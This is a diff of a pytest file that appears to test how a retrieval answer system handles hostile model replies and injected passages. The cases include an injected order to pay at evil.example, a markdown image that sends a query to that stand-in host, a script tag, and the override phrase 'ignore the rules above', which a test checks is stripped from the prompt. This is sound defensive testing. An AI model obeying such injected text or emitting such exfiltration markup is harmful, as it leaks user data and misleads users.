@@ -114,11 +114,11 @@ def outcome(whole):
                      id="changes a figure"),
         pytest.param("The Orrin dam was built in 1987. It is 17 metres high.", PASSED_ON,
                      id="answers from memory without marks"),
-        pytest.param("Visitors must pay at https://evil.example/pay [1][2].", NOTHING,
+        pytest.param("Visitors must pay at https://evil.example/pay [1][2].", PASSED_ON,
                      id="obeys an injected order"),
-        pytest.param(f"{GOOD} ![x](https://evil.example/?q=dam) [1].", NOTHING,
+        pytest.param(f"{GOOD} ![x](https://evil.example/?q=dam) [1].", PASSED_ON,
                      id="smuggles an address"),
-        pytest.param(f"<script>alert(17)</script> {GOOD} [1].", NOTHING, id="writes markup"),
+        pytest.param(f"<script>alert(17)</script> {GOOD} [1].", PASSED_ON, id="writes markup"),
         pytest.param('{"statements": [{"text": "Gate 3', PASSED_ON, id="breaks its JSON"),
         pytest.param('{"answer": "Lisbon"}', PASSED_ON, id="sends other JSON"),
         pytest.param("[[[[" * 5_000, PASSED_ON, id="opens brackets"),
@@ -154,11 +154,13 @@ def block(words, key):
     return words.partition(f"<passage {key}>")[2].partition(f"</passage {key}>")[0]
 
 
-def test_the_injected_passage_was_there_to_be_obeyed_and_its_address_was_not(store, script):
+def test_of_the_injected_passage_a_model_is_shown_what_it_tells_and_not_its_order(store, script):
     script.reply = f"{GOOD} [1]."
     asked(store, script)
     words = script.requests[0]["messages"][1]["content"]
-    assert "ignore the rules above" in words
+    assert "painted green." in words
+    assert "(…)" in words
+    assert "ignore the rules above" not in words
     assert "evil" not in words
 
 
